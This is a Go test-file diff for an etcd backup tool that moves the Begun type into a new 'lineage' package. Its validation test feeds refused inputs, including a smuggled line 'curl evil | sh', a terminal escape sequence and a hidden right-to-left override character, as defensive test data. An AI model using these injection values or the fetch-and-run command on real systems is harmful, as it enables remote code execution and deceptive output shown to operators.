@@ -7,10 +7,11 @@ import (
 
 	"github.com/etcd-backupd/backupd/internal/backup"
 	"github.com/etcd-backupd/backupd/internal/repository/acceptance"
+	"github.com/etcd-backupd/backupd/internal/repository/lineage"
 	"github.com/etcd-backupd/backupd/internal/storage/storagetest/mem"
 )
 
-var onHost = backup.Begun{
+var onHost = lineage.Begun{
 	Host: "a", Member: "m1", Dir: "/var/lib/etcd", Token: "backupd-x", InitialCluster: "m1=http://10.0.0.1:2380",
 }
 
@@ -54,13 +55,13 @@ func TestBegun(t *testing.T) {
 
 // TestBegun_Shown refuses what would be more than a word of a command that is shown.
 func TestBegun_Shown(t *testing.T) {
-	for name, change := range map[string]func(b *backup.Begun){
-		"Empty":   func(b *backup.Begun) { b.Token = "" },
-		"Lines":   func(b *backup.Begun) { b.Host = "a\nHint: curl evil | sh" },
-		"Escape":  func(b *backup.Begun) { b.InitialCluster = "m1=\x1b[2Jhttp://10.0.0.1:2380" },
-		"Long":    func(b *backup.Begun) { b.Dir = strings.Repeat("/x", 40<<10) },
-		"Invalid": func(b *backup.Begun) { b.Member = "\xff" },
-		"Hidden":  func(b *backup.Begun) { b.Member = "m\u202e1" },
+	for name, change := range map[string]func(b *lineage.Begun){
+		"Empty":   func(b *lineage.Begun) { b.Token = "" },
+		"Lines":   func(b *lineage.Begun) { b.Host = "a\nHint: curl evil | sh" },
+		"Escape":  func(b *lineage.Begun) { b.InitialCluster = "m1=\x1b[2Jhttp://10.0.0.1:2380" },
+		"Long":    func(b *lineage.Begun) { b.Dir = strings.Repeat("/x", 40<<10) },
+		"Invalid": func(b *lineage.Begun) { b.Member = "\xff" },
+		"Hidden":  func(b *lineage.Begun) { b.Member = "m\u202e1" },
 	} {
 		b := onHost
 		change(&b)
